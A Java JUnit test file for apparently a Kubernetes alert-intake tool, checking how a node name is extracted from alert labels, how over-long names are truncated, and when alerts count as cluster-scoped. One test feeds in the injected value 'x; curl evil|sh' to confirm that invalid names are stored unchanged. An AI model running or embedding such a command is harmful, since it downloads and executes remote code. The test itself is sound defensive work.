package io.kubeletdoctor.intake;

import java.util.Map;
import java.util.stream.Stream;

import io.kubeletdoctor.intake.NodeLabels.NodeRef;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

class NodeLabelsTests {

	static Stream<Arguments> labels() {
		return Stream.of(
				Arguments.of(Map.of("node", "worker-1", "instance", "10.0.0.9:10250"), "worker-1", "node"),
				Arguments.of(Map.of("kubernetes_node", "worker-2"), "worker-2", "kubernetes_node"),
				Arguments.of(Map.of("nodename", "w3", "hostname", "other"), "w3", "nodename"),
				Arguments.of(Map.of("exported_node", "w4"), "w4", "exported_node"),
				Arguments.of(Map.of("hostname", "w5.example"), "w5.example", "hostname"),
				Arguments.of(Map.of("instance", "10.0.0.5:10250"), "10.0.0.5", "instance"),
				Arguments.of(Map.of("instance", "[fd00::5]:10250"), "fd00::5", "instance"),
				Arguments.of(Map.of("instance", "fd00::7"), "fd00::7", "instance"),
				Arguments.of(Map.of("instance", "worker-6"), "worker-6", "instance"),
				Arguments.of(Map.of("node", " ", "hostname", "w7"), "w7", "hostname"));
	}

	@ParameterizedTest
	@MethodSource("labels")
	void firstNodeLabelWins(Map<String, String> labels, String node, String label) {
		assertThat(NodeLabels.of(labels)).hasValueSatisfying((ref) -> {
			assertThat(ref.name()).isEqualTo(node);
			assertThat(ref.label()).isEqualTo(label);
		});
	}

	/** Labels are stored as they are, to be rejected by their report; only the storable length is cut. */
	@Test
	void invalidNamesAreKeptAndOverLongOnesCutToStayInvalid() {
		assertThat(NodeLabels.of(Map.of("node", "x; curl evil|sh"))).map(NodeRef::name).hasValue("x; curl evil|sh");
		String overLong = "a".repeat(300);
		String stored = NodeLabels.of(Map.of("node", overLong)).orElseThrow().name();
		assertThat(stored).hasSize(NodeLabels.MAX_STORED).startsWith("a".repeat(252)).endsWith("\u2026");
		assertThat(NodeLabels.of(Map.of("node", "b".repeat(253))).orElseThrow().name()).isEqualTo("b".repeat(253));
	}

	@ParameterizedTest
	@MethodSource("noNode")
	void noNodeMeansClusterScope(Map<String, String> labels) {
		assertThat(NodeLabels.of(labels)).isEmpty();
	}

	static Stream<Map<String, String>> noNode() {
		return Stream.of(Map.of("alertname", "KubeletDown", "job", "kubelet"),
				// kube-state-metrics alerts: instance is the exporter, not the node
				Map.of("alertname", "KubeNodeNotReady", "instance", "10.1.2.3:8080"),
				Map.of("alertname", "Custom", "job", "kube-state-metrics", "instance", "10.1.2.3:8080"));
	}

}
